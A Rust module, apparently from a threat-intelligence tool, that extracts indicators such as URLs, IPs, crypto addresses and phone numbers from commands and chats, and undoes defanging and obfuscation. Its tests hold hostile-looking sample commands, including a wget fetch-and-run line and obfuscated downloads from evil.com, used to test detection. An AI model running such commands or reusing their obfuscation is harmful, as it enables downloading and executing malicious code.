//! Indicators: what texts name that is worth knowing elsewhere. One small file per kind, each an [`Extractor`].
//!
//! [`indicators`] prepares a text once ([`Text`]) and lets every extractor look at it. All of them run in time linear in the
//! text's length, whatever it holds, and none is asked about a text that lacks the bytes its values cannot do without ([`Needs`]).
//! What was packed into the text (base64, percent signs) is looked at as a text of its own.
pub mod bank_account;
pub mod btc;
pub mod cve;
mod decode;
mod domain;
mod email;
pub mod eth;
mod fetched;
pub mod hash;
pub mod ifsc;
mod ipv4;
mod ipv6;
pub mod ja4;
pub mod label;
pub mod model;
mod needs;
pub mod phone;
pub mod runs;
pub mod scam;
mod scam_phrases;
pub mod ssh_key;
#[cfg(test)]
mod table;
mod text;
pub mod upi;
mod url;
pub mod xmr;

pub use needs::{ByteSet, Needs, Seen};

use crate::events::Field;
use std::ops::Range;

/// Longest text that is looked at, bytes; of a longer one only its beginning.
pub const TEXT_BYTES_MAX: usize = 64 << 10;
/// Most indicators taken from one text.
pub const INDICATORS_PER_TEXT_MAX: usize = 54;
/// How deep texts packed into texts are followed.
pub const LAYERS_MAX: usize = 3;

/// Where a text comes from: what a string of digits means depends on it.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Context {
    /// Typed into a shell: escapes and base64 are decoded first.
    Command,
    /// One message of a chat.
    Chat,
    /// Where a name or an address is expected: a tunnel's target, a URL that was fetched.
    Address,
    /// A file's hash.
    Hash,
    /// Anything else: user names, passwords, version strings, payloads.
    Other,
}

/// One text, prepared for all extractors.
#[derive(Clone, Copy, Debug)]
pub struct Text<'a> {
    pub context: Context,
    /// As it was written.
    pub verbatim: &'a str,
    /// With look-alikes folded to ASCII, invisible characters removed and defanged forms made whole: what extractors read.
    /// The same slice as `verbatim` when there was nothing to do.
    pub plain: &'a str,
    /// Offsets in `plain` where the text was defanged (ascending): who writes `evil[.]com` means a name.
    pub defanged: &'a [u32],
    /// Where a byte of `plain` stood in `verbatim`: pairs (offset in plain, offset in verbatim), ascending; between two of them both
    /// run in step. Two pairs enclose what was replaced, so an offset in `plain` occurs twice where something was removed.
    /// Empty when the texts are the same.
    pub origins: &'a [(u32, u32)],
    /// Offsets in `plain` (ascending) where a command names what `wget`, `curl` and the like shall fetch, or whom `ssh` shall call:
    /// a word there is an address even if it looks like a file.
    pub fetched: &'a [u32],
}

/// One indicator.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Indicator {
    pub field: Field,
    /// In the form in which equal things are equal: host names in lower case, phone numbers in E.164.
    pub value: String,
    /// As it stood in the text, where that differs.
    pub verbatim: Option<String>,
}

/// What was found in one text: each (field, value) once, in the order found, at most [`INDICATORS_PER_TEXT_MAX`].
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Found {
    pub indicators: Vec<Indicator>,
    /// When all places are asked for instead: these, and none is left out.
    spots: Option<Vec<Spot>>,
}

/// Where in a text something stands.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Spot {
    /// What it is: a field's name, or another that an extractor gives.
    pub what: &'static str,
    /// Its canonical form.
    pub value: String,
    /// Its place in the text; where it is packed (base64, percent signs), all that it is packed into.
    pub range: Range<usize>,
}

impl Found {
    /// Notes a value that stands at `range` of `text.plain`; `value` is its canonical form.
    pub fn add(&mut self, field: Field, value: &str, text: &Text<'_>, range: Range<usize>) {
        if self.spots.is_some() {
            return self.mark(field.name(), value, text, range);
        }
        if self.is_full() || value.is_empty() {
            return;
        }
        if self.indicators.iter().any(|known| known.field == field && known.value == value) {
            return;
        }
        let written = text.written(range);
        let verbatim = (written != value).then(|| written.to_owned());
        self.indicators.push(Indicator { field, value: value.to_owned(), verbatim });
    }

    /// Notes where something stands, when that is what is asked for.
    pub fn mark(&mut self, what: &'static str, value: &str, text: &Text<'_>, range: Range<usize>) {
        if let Some(spots) = &mut self.spots
            && !value.is_empty()
        {
            spots.push(Spot { what, value: value.to_owned(), range: text.origin(range) });
        }
    }

    /// `most`, unless every place is asked for.
    fn bounded(&self, most: usize) -> usize {
        if self.spots.is_some() { usize::MAX } else { most }
    }

    /// Whether nothing may be missed, rather than nothing be taken for what it is not.
    pub fn is_strict(&self) -> bool {
        self.spots.is_some()
    }

    /// Whether no more is taken.
    pub fn is_full(&self) -> bool {
        self.spots.is_none() && self.indicators.len() >= INDICATORS_PER_TEXT_MAX
    }

    /// Notes what a text is about, in our words.
    pub fn name(&mut self, field: Field, value: &'static str) {
        if !self.is_full() && !self.has(field, value) {
            self.indicators.push(Indicator { field, value: value.to_owned(), verbatim: None });
        }
    }

    /// Whether this was found.
    pub fn has(&self, field: Field, value: &str) -> bool {
        self.indicators.iter().any(|known| known.field == field && (known.value == value || known.verbatim.as_deref() == Some(value)))
    }
}

impl<'a> Text<'a> {
    /// A text with nothing to prepare.
    pub fn plain(context: Context, text: &'a str) -> Text<'a> {
        Text { context, verbatim: text, plain: text, defanged: &[], origins: &[], fetched: &[] }
    }

    /// Where in `verbatim` that stands which stands at `range` of `plain`.
    pub fn origin(&self, range: Range<usize>) -> Range<usize> {
        if self.origins.is_empty() {
            return range;
        }
        text::origin_of_start(self.origins, range.start)..text::origin_of_end(self.origins, range.end)
    }

    /// What stands at `range` of `plain`, as it was written.
    pub fn written(&self, range: Range<usize>) -> &'a str {
        self.verbatim.get(self.origin(range.clone())).unwrap_or(&self.plain[range])
    }

    /// Whether the text was defanged somewhere in `range`.
    pub fn is_defanged(&self, range: &Range<usize>) -> bool {
        let next = self.defanged.partition_point(|&at| (at as usize) < range.start);
        self.defanged.get(next).is_some_and(|&at| (at as usize) < range.end)
    }

    /// Whether a command fetches from what begins at `at`.
    pub fn is_fetched(&self, at: usize) -> bool {
        self.fetched.binary_search(&(at as u32)).is_ok()
    }
}

/// Finds the values of one kind, or of kinds that are told apart by looking closely (the hashes by their length).
pub trait Extractor: Sync {
    /// What it finds.
    fn fields(&self) -> &'static [Field];

    /// What a text must hold for this to be worth a look: cheap to check, and most texts lack it.
    fn needs(&self) -> &'static Needs {
        &Needs::NOTHING
    }

    /// Finds every value in the text, in time linear in its length.
    fn extract(&self, text: &Text<'_>, found: &mut Found);
}

/// Every extractor, in the order in which a text's indicators are listed. A new kind is one file and one entry here.
pub static EXTRACTORS: &[&dyn Extractor] = &[
    &url::Urls,
    &domain::Domains,
    &ipv4::Addresses,
    &ipv6::Addresses,
    &email::Addresses,
    &hash::Hash,
    &cve::Cve,
    &btc::Btc,
    &eth::Eth,
    &xmr::Xmr,
    &phone::Phone,
    &upi::Upi,
    &ifsc::Ifsc,
    &bank_account::BankAccount,
    &ssh_key::SshKey,
    &ja4::Ja4,
    &scam::Words,
];

/// All indicators of a text.
pub fn indicators(context: Context, text: &str, found: &mut Found) {
    indicators_of_all(context, &text[..text::boundary(text, TEXT_BYTES_MAX)], found);
}

/// [`indicators`] of a text however long: for measuring that time grows with length and no faster.
#[doc(hidden)]
pub fn indicators_of_all(context: Context, text: &str, found: &mut Found) {
    let mut budget = decode::Budget::of(text);
    look(context, text, 0, &mut budget, found);
}

fn look(context: Context, text: &str, layer: usize, budget: &mut decode::Budget, found: &mut Found) {
    let seen = Seen::of(text);
    let prepared = text::prepare(context, text, &seen);
    let now_seen;
    let (looked_at, seen) = match &prepared {
        None => (Text::plain(context, text), &seen),
        Some(prepared) => {
            now_seen = Seen::of(&prepared.plain);
            (prepared.text(context, text), &now_seen)
        }
    };
    let fetched = fetched::targets(&looked_at, seen);
    let looked_at = Text { fetched: &fetched, ..looked_at };
    for extractor in EXTRACTORS {
        if seen.suffices(extractor.needs()) {
            extractor.extract(&looked_at, found);
        }
    }
    if layer < LAYERS_MAX {
        decode::packed(&looked_at, seen, budget, &mut |budget, context, unpacked, _| look(context, unpacked, layer + 1, budget, found));
    }
}

/// Every place of a text, however long, where one of `extractors` finds something: for what must not be left standing anywhere.
///
/// It is strict: what may be a value is one, a login, too, and every percent sign, every run that may be base64 or hexadecimal is
/// unpacked. Bounded by the text alone: what [`indicators`] leaves out because there is so much of it is here, and a text that would
/// unpack to too much is one spot, [`UNKNOWN`], altogether.
pub fn spots(context: Context, text: &str, extractors: &[&dyn Extractor], spots: &mut Vec<Spot>) {
    let mut found = Found { spots: Some(std::mem::take(spots)), ..Found::default() };
    let mut budget = decode::Budget::strict(text);
    look_everywhere(context, text, 0, &mut budget, extractors, &mut found);
    *spots = found.spots.unwrap_or_default();
    if budget.is_exhausted {
        spots.push(Spot { what: UNKNOWN, value: text.to_owned(), range: 0..text.len() });
    }
}

/// What a [`Spot`] is that was too much to be looked through.
pub const UNKNOWN: &str = "unknown";

fn look_everywhere(
    context: Context,
    text: &str,
    layer: usize,
    budget: &mut decode::Budget,
    extractors: &[&dyn Extractor],
    found: &mut Found,
) {
    let seen = Seen::of(text);
    let prepared = text::prepare(context, text, &seen);
    let looked_at = prepared.as_ref().map_or_else(|| Text::plain(context, text), |prepared| prepared.text(context, text));
    let seen = if prepared.is_some() { Seen::of(looked_at.plain) } else { seen };
    for extractor in extractors.iter().filter(|extractor| seen.suffices(extractor.needs())) {
        extractor.extract(&looked_at, found);
        if prepared.is_some() {
            // As it stands as well: what looks like an escape may be none.
            extractor.extract(&Text::plain(context, text), found);
        }
    }
    if layer < LAYERS_MAX {
        decode::packed(&looked_at, &seen, budget, &mut |budget, context, unpacked, range| {
            let first = found.spots.as_ref().map_or(0, Vec::len);
            look_everywhere(context, unpacked, layer + 1, budget, extractors, found);
            let inside = found.spots.iter_mut().flat_map(|spots| &mut spots[first..]);
            inside.for_each(|spot| spot.range = looked_at.origin(range.clone()));
        });
    }
}

/// Finds e-mail addresses.
pub static EMAIL: &dyn Extractor = &email::Addresses;
/// Finds phone numbers.
pub static PHONE: &dyn Extractor = &phone::Phone;

#[cfg(test)]
mod tests {
    use super::*;

    /// Rows of a table: context, text, and exactly what is found of one kind.
    pub(super) type Row<'a> = (Context, &'a str, &'a [&'a str]);

    /// Checks every row of a table, and that there are enough of them; tells all that is wrong at once.
    pub(super) fn check(field: Field, rows: &[Row<'_>]) {
        assert!(rows.len() >= 60, "{} rows", rows.len());
        let mut wrong = String::new();
        for (context, text, expected) in rows {
            let mut found = Found::default();
            indicators(*context, text, &mut found);
            let values: Vec<&str> =
                found.indicators.iter().filter(|there| there.field == field).map(|there| there.value.as_str()).collect();
            if values != *expected {
                wrong.push_str(&format!("{context:?} {text:?}:\n    found    {values:?}\n    expected {expected:?}\n"));
            }
        }
        assert!(wrong.is_empty(), "\n{wrong}");
    }

    /// The one value of a kind in a text, and how it was written there.
    fn verbatim(context: Context, text: &str, field: Field) -> (String, Option<String>) {
        let mut found = Found::default();
        indicators(context, text, &mut found);
        let mut values = found.indicators.into_iter().filter(|there| there.field == field);
        let first = values.next().unwrap_or_else(|| panic!("no {} in {text:?}", field.name()));
        assert_eq!(values.next(), None, "{text:?}");
        (first.value, first.verbatim)
    }

    #[test]
    fn what_stood_in_the_text_is_told_where_it_differs() {
        use Context::*;
        for (context, text, field, value, written) in [
            (Other, "http://example.com/a", Field::Url, "http://example.com/a", None),
            (Other, "see hxxp://evil[.]com/a.", Field::Url, "http://evil.com/a", Some("hxxp://evil[.]com/a")),
            (Other, "see HTTP://Evil.COM/A now", Field::Url, "http://evil.com/A", Some("HTTP://Evil.COM/A")),
            (Other, "(evil[.]com)", Field::Domain, "evil.com", Some("evil[.]com")),
            (Other, "a 192[.]0[dot]2(.)1, b", Field::Ipv4, "192.0.2.1", Some("192[.]0[dot]2(.)1")),
            (Chat, "ｅｖｉｌ．ｃｏｍ", Field::Domain, "evil.com", Some("ｅｖｉｌ．ｃｏｍ")),
            (Chat, "ev\u{200b}il.c\u{ad}om\u{200b} x", Field::Domain, "evil.com", Some("ev\u{200b}il.c\u{ad}om")),
            (Chat, "\u{200b}evil.com", Field::Domain, "evil.com", None),
            (Chat, "info (at) evil (dot) com ok", Field::Email, "info@evil.com", Some("info (at) evil (dot) com")),
            (Chat, "x info at evil dot com ok", Field::Email, "info@evil.com", Some("info at evil dot com")),
            (Command, "wget $'\\x68ttp://evil.com/a'", Field::Url, "http://evil.com/a", Some("\\x68ttp://evil.com/a")),
            (Command, "w'ge't ht\"tp\"://192.0.2.1/a;ls", Field::Url, "http://192.0.2.1/a", Some("ht\"tp\"://192.0.2.1/a")),
            // Two stages, one inside the other.
            (Command, "echo hx\\x78p://evil\\x5b.]com/\\x61 x", Field::Url, "http://evil.com/a", Some("hx\\x78p://evil\\x5b.]com/\\x61")),
            (Other, "http:\\/\\/evil.com\\/a", Field::Url, "http://evil.com/a", Some("http:\\/\\/evil.com\\/a")),
            (Other, "fe80::1%eth0", Field::Ipv6, "fe80::1", Some("fe80::1%eth0")),
            (Other, "bücher.de", Field::Domain, "xn--bcher-kva.de", Some("bücher.de")),
        ] {
            assert_eq!(verbatim(context, text, field), (value.to_owned(), written.map(str::to_owned)), "{text:?}");
        }
    }

    #[test]
    fn a_text_with_nothing_to_prepare_is_looked_at_as_it_is() {
        for text in ["wget http://example.com/a -O /tmp/a; sh /tmp/a", "uname -a", "echo 'a' \"b\"", "größe", "a[0] (b) {c}"] {
            assert!(text::prepare(Context::Command, text, &Seen::of(text)).is_none(), "{text}");
        }
    }

    #[test]
    fn a_text_is_looked_at_up_to_its_bound_and_gives_no_more_than_its_share() {
        let mut found = Found::default();
        let far = format!("{} http://example.com/a", "é".repeat(TEXT_BYTES_MAX / 2));
        indicators(Context::Other, &far, &mut found);
        assert_eq!(found, Found::default());
        let many: String = (0..200).map(|index| format!("http://example.com/{index} 192.0.2.{index} ")).collect();
        indicators(Context::Command, &many, &mut found);
        assert_eq!(found.indicators.len(), INDICATORS_PER_TEXT_MAX);
        assert!(found.is_full());
    }
}
